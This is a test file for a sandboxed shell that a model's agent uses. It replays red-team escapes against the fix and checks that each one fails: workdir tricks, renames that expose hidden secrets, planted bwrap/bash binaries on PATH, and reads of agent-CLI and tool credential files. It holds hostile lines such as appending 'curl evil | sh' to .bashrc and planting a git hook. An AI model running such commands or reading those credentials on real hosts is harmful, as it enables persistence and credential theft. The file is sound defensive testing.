/**
 * Attacks on the sandbox that a red team made work against the first
 * version, each replayed against the fix: a request's workdir that would
 * make the host writable, a rename that un-hides a denied path or moves a
 * writable root, a spill directory inside the tree, a `bwrap` or `bash`
 * planted in a writable `PATH` directory, credentials outside the first
 * default list. Each test checks the host afterwards: the file that must
 * not exist does not, the secret never reached the output.
 */

import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join, relative } from "node:path";
import process from "node:process";
import { createLocalShell, ShellSandboxError, ShellSpecError } from "../mod.ts";
import { executeBashTool } from "../src/tool/mod.ts";
import { rejection, thrown } from "./helpers/errors.ts";
import { sandboxSkip } from "./helpers/sandbox.ts";

const skip = sandboxSkip();

/** A fresh tree outside /tmp (the sandbox's /tmp is its own), removed after the test. */
function scratch(): string {
  return mkdtempSync("/var/tmp/dsh-attack-");
}

describe("a request's workdir is where a command starts, never what it may write", { skip }, () => {
  let base: string;
  let work: string;
  let home: string;
  before(() => {
    base = scratch();
    work = join(base, "work");
    home = join(base, "home");
    mkdirSync(join(work, "sub"), { recursive: true });
    mkdirSync(join(work, ".git", "hooks"), { recursive: true });
    mkdirSync(home);
    writeFileSync(join(home, ".bashrc"), "# the host's own\n");
  });
  after(() => rmSync(base, { recursive: true, force: true }));

  it("the model's tool with workdir /, a home or .git/hooks: it runs there, and every write fails", async () => {
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: { denyRead: [] } });
    const name = `dsh-attack-${process.pid}`;
    try {
      const attempts = [
        { workdir: "/", command: `pwd; touch ${name}` },
        { workdir: "/etc", command: `pwd; touch ${name}` },
        { workdir: home, command: "pwd; echo 'curl evil | sh' >> .bashrc" },
        { workdir: join(work, ".git", "hooks"), command: "pwd; echo 'echo pwned' > pre-commit" },
      ];
      for (const { workdir, command } of attempts) {
        const outcome = await executeBashTool(shell, { workdir, command }, { owner: "m" });
        assert.equal(outcome.result?.stdout.text.split("\n")[0], workdir, outcome.text);
        assert.equal(outcome.result?.exitCode, 1, outcome.text);
        assert.match(outcome.text, /Read-only file system/);
      }
      assert.equal(existsSync(join("/", name)), false);
      assert.equal(existsSync(join("/etc", name)), false);
      assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "# the host's own\n");
      assert.equal(existsSync(join(work, ".git", "hooks", "pre-commit")), false);
      // Below the shell's workdir a request's workdir is writable, as the workdir is.
      const inside = await executeBashTool(shell, { workdir: join(work, "sub"), command: "echo ok > made" }, {
        owner: "m",
      });
      assert.equal(inside.result?.exitCode, 0, inside.text);
      assert.equal(readFileSync(join(work, "sub", "made"), "utf8"), "ok\n");
    } finally {
      await shell.close();
    }
  });

  it("a workdir in the sandbox's own /tmp, /proc, /dev or /run is refused by name, and nothing runs", async () => {
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: {} });
    try {
      for (const workdir of ["/tmp", "/proc", "/dev", "/run"]) {
        const error = await rejection(shell.exec("true", { workdir }));
        assert.ok(error instanceof ShellSandboxError, String(error));
        assert.match(error.message, new RegExp(`workdir ${workdir} is not visible in the sandbox`));
      }
      const outcome = await executeBashTool(shell, { workdir: "/tmp", command: "echo never" }, { owner: "m" });
      assert.equal(outcome.isError, true);
      assert.equal(outcome.result, undefined);
      assert.match(outcome.text, /^\[error\] .*not visible in the sandbox/);
    } finally {
      await shell.close();
    }
  });

  it("a shell whose workdir or writable root would open the host is refused, naming the field", () => {
    const cases: [Parameters<typeof createLocalShell>[0], string, RegExp][] = [
      [{ workdir: "/", sandbox: {} }, "workdir", /root of the file system/],
      [{ workdir: work, sandbox: { writableRoots: ["/tmp"] } }, "sandbox.writableRoots[0]", /every program's/],
      [{ workdir: work, sandbox: { writableRoots: [work, "/run"] } }, "sandbox.writableRoots[1]", /every program's/],
      [{ workdir: work, sandbox: { writableRoots: ["/proc/self"] } }, "sandbox.writableRoots[0]", /in \/proc/],
      [{ workdir: work, sandbox: { writableRoots: ["/dev/shm"] } }, "sandbox.writableRoots[0]", /in \/dev/],
    ];
    for (const [options, field, why] of cases) {
      const error = thrown(() => createLocalShell(options));
      assert.ok(error instanceof ShellSpecError, String(error));
      assert.equal(error.field, field);
      assert.match(error.message, why);
    }
  });
});

describe("nothing below a writable root can be renamed to undo the sandbox", { skip }, () => {
  it("a denied directory or file stays hidden: its parents cannot be renamed, so no later command finds it", async () => {
    const base = scratch();
    const work = join(base, "work");
    mkdirSync(join(work, ".config", "gh"), { recursive: true });
    writeFileSync(join(work, ".config", "gh", "hosts.yml"), "oauth_token: gho_DIRECTORY_SECRET\n");
    mkdirSync(join(work, "secrets"));
    writeFileSync(join(work, "secrets", "key"), "FILE_SECRET\n");
    const denyRead = [join(work, ".config", "gh"), join(work, "secrets", "key")];
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: { denyRead } });
    try {
      const moves = ["mv .config .config-moved", "mv .config/gh .config/gh2", "mv secrets s2", "mv secrets/key k2"];
      for (const move of moves) {
        const result = await shell.exec(move);
        assert.notEqual(result.exitCode, 0, `${move} worked`);
      }
      const look = await shell.exec("cat .config*/gh*/hosts.yml secrets/key s2/key k2 2>&1; grep -r SECRET . 2>&1");
      assert.doesNotMatch(look.stdout.text, /gho_DIRECTORY_SECRET|FILE_SECRET/);
      assert.equal(
        readFileSync(join(work, ".config", "gh", "hosts.yml"), "utf8"),
        "oauth_token: gho_DIRECTORY_SECRET\n",
      );
      assert.equal(readFileSync(join(work, "secrets", "key"), "utf8"), "FILE_SECRET\n");
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });

  it("a writable root inside the workdir cannot be pointed at /etc by replacing its parent with a link", async () => {
    const base = scratch();
    const work = join(base, "work");
    const root = join(work, "build", "etc");
    mkdirSync(root, { recursive: true });
    const name = `dsh-attack-${process.pid}`;
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: { writableRoots: [root] } });
    try {
      // build/ -> the file system's root: build/etc would then be the host's /etc.
      const swap = await shell.exec(`mv build build.orig && ln -s ${relative(work, "/")} build`);
      assert.notEqual(swap.exitCode, 0, swap.stdout.text);
      assert.match(swap.stderr.text, /busy/i);
      const write = await shell.exec(`echo pwned > build/etc/${name}`);
      assert.equal(write.exitCode, 0, write.stderr.text);
      assert.equal(existsSync(join(root, name)), true);
      assert.equal(existsSync(join("/etc", name)), false);
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });

  it("a spill directory inside the tree stays hidden and where it is: another owner cannot move it or redirect it", async () => {
    const base = scratch();
    const work = join(base, "work");
    const outside = join(base, "outside");
    mkdirSync(work);
    mkdirSync(outside);
    const shell = createLocalShell({
      workdir: work,
      graceMs: 300,
      spillDir: ".dsh/spill",
      maxOutputBytes: 1000,
      sandbox: {},
    });
    try {
      const a = await shell.exec("echo OWNER_A_PRIVATE; seq 1 2000", { owner: "A" });
      assert.ok(a.stdout.spillPath !== undefined && a.stdout.spillPath.startsWith(join(work, ".dsh", "spill")));
      const move = await shell.exec(`mv .dsh .dsh-moved || mv .dsh/spill .dsh/s2`, { owner: "B" });
      assert.notEqual(move.exitCode, 0);
      const look = await shell.exec("cat .dsh/spill/* .dsh-moved/spill/* 2>&1; grep -r OWNER_A . 2>&1", {
        owner: "B",
      });
      assert.doesNotMatch(look.stdout.text, /OWNER_A_PRIVATE\n1\n/);
      const plant = await shell.exec(`rm -rf .dsh 2>&1; ln -sT '${outside}' .dsh`, { owner: "B" });
      assert.notEqual(plant.exitCode, 0);
      const c = await shell.exec("echo CHOSEN_BY_B; seq 1 2000", { owner: "B" });
      assert.ok(c.stdout.spillPath?.startsWith(join(work, ".dsh", "spill")), c.stdout.spillPath);
      assert.match(readFileSync(a.stdout.spillPath, "utf8"), /^OWNER_A_PRIVATE\n/);
      assert.deepEqual(readdirSync(outside), []);
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });
});

describe("a denied path reached through a link stays hidden when the link goes", { skip }, () => {
  it("the real directory is masked from then on, also after a command removed the link", async () => {
    const base = scratch();
    const work = join(base, "work");
    mkdirSync(join(work, ".vault", "ssh"), { recursive: true });
    writeFileSync(join(work, ".vault", "ssh", "id_ed25519"), "LINKED_SECRET\n");
    symlinkSync(join(work, ".vault", "ssh"), join(work, ".ssh"));
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: { denyRead: [join(work, ".ssh")] } });
    try {
      const first = await shell.exec("cat .ssh/id_ed25519 .vault/ssh/id_ed25519 2>&1; rm .ssh && echo unlinked");
      assert.match(first.stdout.text, /unlinked\n$/);
      assert.doesNotMatch(first.stdout.text, /LINKED_SECRET/);
      const next = await shell.exec("cat .vault/ssh/id_ed25519 2>&1; grep -r LINKED . 2>&1; true");
      assert.doesNotMatch(next.stdout.text, /LINKED_SECRET/);
      assert.equal(readFileSync(join(work, ".vault", "ssh", "id_ed25519"), "utf8"), "LINKED_SECRET\n");
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });
});

describe("the wrapper and bubblewrap run on the host with nothing of the command's", { skip }, () => {
  it("neither the command's environment nor its workdir: LD_* from a model's workdir cannot reach them", async () => {
    const base = scratch();
    const work = join(base, "work");
    mkdirSync(work);
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: {} });
    try {
      const env = { LD_LIBRARY_PATH: ":/opt/vendor/lib", DSH_ATTACK_MARK: "seen-inside" };
      const task = shell.start(
        shell.resolve({ command: 'echo "$DSH_ATTACK_MARK $PWD"; exec sleep 300', owner: null, env }),
      );
      assert.equal(await task.waitForOutput({ timeoutMs: 10_000 }), "output");
      // The session leader is the wrapper, which exec'd bubblewrap: what the host runs.
      const hostEnv = readFileSync(`/proc/${task.pid}/environ`, "utf8");
      const hostCwd = readlinkSync(`/proc/${task.pid}/cwd`);
      task.kill();
      await task.done;
      assert.equal(task.read().stdout, `seen-inside ${work}\n`);
      // What the loader and a shell act on are the names: the command's variables are there only as the values of
      // DSH_SANDBOX_ENV_<n> (so that no value is in any argv), which nothing on the host reads; and the SHLVL of 0
      // that bash's exec puts there.
      const names = hostEnv.split("\0").filter((entry) => entry !== "").map((entry) => entry.split("=")[0]);
      assert.deepEqual(names.filter((name) => !/^DSH_SANDBOX_ENV_\d+$/.test(name) && name !== "SHLVL"), []);
      assert.match(hostEnv, /(^|\0)SHLVL=0(\0|$)/);
      assert.equal(hostCwd, "/");
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });
});

describe("what runs on the host is never found in a directory a command can write", { skip }, () => {
  let base: string;
  let work: string;
  let bin: string;
  let path: string | undefined;
  before(() => {
    base = scratch();
    work = join(base, "work");
    // As `npm run` puts it first on PATH; the project is the sandbox's workdir.
    bin = join(work, "node_modules", ".bin");
    mkdirSync(bin, { recursive: true });
    path = process.env.PATH;
    process.env.PATH = `${bin}:${path}`;
  });
  after(() => {
    process.env.PATH = path;
    rmSync(base, { recursive: true, force: true });
  });

  it("a bwrap planted on PATH inside the workdir is passed over; one named in bwrapPath there is refused", async () => {
    const marker = join(base, "fake-bwrap-ran");
    plantScript(join(bin, "bwrap"), `touch '${marker}'\nexit 1`);
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: {} });
    try {
      const ps = await shell.exec("ps -e | wc -l");
      assert.ok(Number(ps.stdout.text) < 10, ps.stdout.text);
    } finally {
      await shell.close();
    }
    assert.equal(existsSync(marker), false, "the planted bwrap ran");
    const error = thrown(() => createLocalShell({ workdir: work, sandbox: { bwrapPath: join(bin, "bwrap") } }));
    assert.ok(error instanceof ShellSandboxError, String(error));
    assert.match(error.message, /inside the writable .*could replace it/);
  });

  it("a bash planted on PATH inside the workdir never runs, not even for a sandbox: false request", async () => {
    const marker = join(base, "fake-bash-ran");
    plantScript(join(bin, "bash"), `touch '${marker}'\nexec /bin/bash "$@"`);
    const shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: {} });
    try {
      const outside = await shell.exec("echo host", { sandbox: false });
      const inside = await shell.exec("echo sandbox");
      assert.equal(outside.stdout.text + inside.stdout.text, "host\nsandbox\n");
    } finally {
      await shell.close();
    }
    assert.equal(existsSync(marker), false, "the planted bash ran");
  });
});

describe("the default policy hides the credentials of the agent CLIs and the usual tools", { skip }, () => {
  it("each file reads as absent or unreadable, and is unchanged on the host", async () => {
    const base = scratch();
    const home = join(base, "home");
    const work = join(base, "work");
    mkdirSync(work);
    const files = [
      ".claude/.credentials.json",
      ".codex/auth.json",
      ".gemini/oauth_creds.json",
      ".config/git/credentials",
      ".cargo/credentials.toml",
      ".pgpass",
      ".vault-token",
      ".terraform.d/credentials.tfrc.json",
      ".password-store/site.gpg",
      ".local/share/keyrings/login.keyring",
      ".config/hub",
      ".config/op/config",
      ".config/doctl/config.yaml",
      ".huggingface/token",
      ".cache/huggingface/token",
      ".s3cfg",
    ];
    for (const [index, file] of files.entries()) {
      mkdirSync(dirname(join(home, file)), { recursive: true });
      writeFileSync(join(home, file), `CREDENTIAL_${index}\n`);
    }
    const realHome = process.env.HOME;
    process.env.HOME = home;
    let shell;
    try {
      shell = createLocalShell({ workdir: work, graceMs: 300, sandbox: {} });
    } finally {
      process.env.HOME = realHome;
    }
    try {
      const paths = files.map((file) => `'${join(home, file)}'`).join(" ");
      const look = await shell.exec(`cat ${paths} 2>&1; grep -r CREDENTIAL '${home}' 2>&1; true`);
      assert.doesNotMatch(look.stdout.text, /CREDENTIAL_\d/);
      // Control: the home itself is readable, so the mask (not a missing file) is what hid them.
      assert.equal((await shell.exec(`test -d '${join(home, ".codex")}' && echo seen`)).stdout.text, "seen\n");
      for (const [index, file] of files.entries()) {
        assert.equal(readFileSync(join(home, file), "utf8"), `CREDENTIAL_${index}\n`);
      }
    } finally {
      await shell.close();
      rmSync(base, { recursive: true, force: true });
    }
  });
});

describe("close() leaves no empty spill directory behind", { skip }, () => {
  it("an emptied one goes; one that holds spill files stays for the caller to read", async () => {
    const base = scratch();
    try {
      const emptied = createLocalShell({ workdir: base, graceMs: 300, maxOutputBytes: 100, sandbox: {} });
      const first = await emptied.exec("seq 1 2000");
      assert.ok(first.stdout.spillPath !== undefined);
      rmSync(first.stdout.spillPath);
      await emptied.close();
      assert.equal(existsSync(dirname(first.stdout.spillPath)), false);
      assert.equal(existsSync(dirname(dirname(first.stdout.spillPath))), false);
      const kept = createLocalShell({ workdir: base, graceMs: 300, maxOutputBytes: 100, sandbox: {} });
      const second = await kept.exec("seq 1 2000");
      await kept.close();
      assert.ok(second.stdout.spillPath !== undefined);
      assert.equal(readFileSync(second.stdout.spillPath, "utf8").split("\n").length, 2001);
      // A sandboxed shell's spill files sit in a directory per owner, inside the spill directory.
      rmSync(dirname(dirname(second.stdout.spillPath)), { recursive: true });
    } finally {
      rmSync(base, { recursive: true, force: true });
    }
  });
});

/** Writes an executable `sh` script at `path`. */
function plantScript(path: string, body: string): void {
  writeFileSync(path, `#!/bin/sh\n${body}\n`);
  chmodSync(path, 0o755);
}
